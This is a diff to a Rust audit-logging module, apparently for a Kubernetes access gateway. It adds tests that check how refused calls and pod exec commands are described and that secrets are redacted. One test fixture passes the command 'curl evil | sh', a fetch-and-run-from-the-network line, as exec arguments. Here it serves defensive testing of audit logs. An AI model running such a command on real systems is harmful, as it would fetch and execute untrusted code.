@@ -28,8 +28,7 @@ pub(crate) fn entry(call: &Call) -> Draft {
         // Beside the address, in which it may be anywhere.
         draft = draft.detail("command", command);
     }
-    draft = draft
-        .detail("uri", redact_url(&call.path_and_query).text);
+    draft = draft.detail("uri", redact_url(&call.path_and_query).text);
     if let Some(status) = call.status {
         draft = draft.detail("status", status);
     }
@@ -99,7 +98,8 @@ fn is_discovery(call: &Call) -> bool {
 /// Path and query of what was called.
 fn address(call: &Call) -> (&str, &str) {
     let whole = call.path_and_query.as_str();
-    let path = whole.strip_prefix("https://").map_or(whole, |rest| rest.find('/').map_or("/", |at| &rest[at..]));
+    let path =
+        whole.strip_prefix("https://").map_or(whole, |rest| rest.find('/').map_or("/", |at| &rest[at..]));
     path.split_once('?').unwrap_or((path, ""))
 }
 
@@ -156,4 +156,82 @@ pub(crate) fn line(call: &Call) -> sallyport_ipc::Call {
 /// The streams open now, one line each.
 pub(crate) fn streams(live: &Live) -> Vec<String> {
     live.open.iter().filter_map(|c| c.stream.map(|kind| format!("{kind} {}", what(&c.target)))).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::sentence::sentence;
+    use sallyport_model::{AuditId, GrantUid, Jti, RequestUid, SessionId};
+    use std::time::Duration;
+
+    fn call(method: &str, path: &str, outcome: CallOutcome) -> Call {
+        let path_alone = path.strip_prefix("https://127.0.0.1:4000").unwrap_or(path);
+        let (path_alone, query) =
+            path_alone.split_once('?').map_or((path_alone, None), |(path, query)| (path, Some(query)));
+        let target = Target::of(&method.parse().unwrap(), path_alone, query);
+        Call {
+            phase: CallPhase::Ended,
+            session: SessionId::new("s"),
+            request: RequestUid::new("r"),
+            grant: GrantUid::new("g"),
+            cluster: "pay".parse().unwrap(),
+            user: "oidc:ada".parse().unwrap(),
+            jti: Jti::new("j"),
+            audit_id: AuditId::new("a"),
+            at: jiff::Timestamp::UNIX_EPOCH,
+            method: method.to_owned(),
+            path_and_query: path.to_owned(),
+            stream: target.stream(query),
+            target,
+            status: Some(403),
+            outcome,
+            duration: Duration::ZERO,
+            bytes_in: 0,
+            bytes_out: 0,
+            user_agent: None,
+            impersonates: None,
+            peer: None,
+        }
+    }
+
+    #[test]
+    fn fault_c2_a_refusal_names_what_was_asked() {
+        let refused = || CallOutcome::Refused("web pages may not call the gateway".into());
+        let exec = "https://127.0.0.1:4000/api/v1/namespaces/pay/pods/web/exec?command=ls";
+        for (method, path, want) in [
+            ("GET", exec, "exec pods/exec web in pay was not sent on: web pages may not call the gateway"),
+            (
+                "GET",
+                "https://127.0.0.1:4000/readyz?verbose",
+                "get /readyz was not sent on: web pages may not call the gateway",
+            ),
+            ("OPTIONS", "/a%2Fb", "options /a%2Fb was not sent on: web pages may not call the gateway"),
+            (
+                "GET",
+                "/api/v1?timeout=32s",
+                "get API discovery was not sent on: web pages may not call the gateway",
+            ),
+        ] {
+            let call = call(method, path, refused());
+            assert_eq!(sentence(&entry(&call).place(1, 0)), want);
+            assert!(!line(&call).verb.is_empty() && !line(&call).resource.is_empty());
+        }
+        let answered = call("GET", "/apis/apps/v1", CallOutcome::Answered);
+        assert_eq!(sentence(&entry(&answered).place(1, 0)), "get API discovery");
+    }
+
+    #[test]
+    fn fault_e2_an_execs_command_is_told_wherever_in_the_address_it_is() {
+        let junk = "x".repeat(5000);
+        let path = format!(
+            "/api/v1/namespaces/pay/pods/web/exec?a={junk}&command=sh&command=-c&command=curl%20evil%20%7C%20sh&b={junk}"
+        );
+        let entry = entry(&call("GET", &path, CallOutcome::Answered)).place(1, 0);
+        assert_eq!(entry.detail.get("command").unwrap(), &serde_json::json!(["sh", "-c", "curl evil | sh"]));
+        // A secret in it is one here too.
+        let path = "/api/v1/namespaces/pay/pods/web/exec?command=psql&command=--password&command=hunter2";
+        let entry = super::entry(&call("GET", path, CallOutcome::Answered)).place(1, 0);
+        assert!(!entry.detail.to_json().contains("hunter2"), "{}", entry.detail.to_json());
+    }
 }
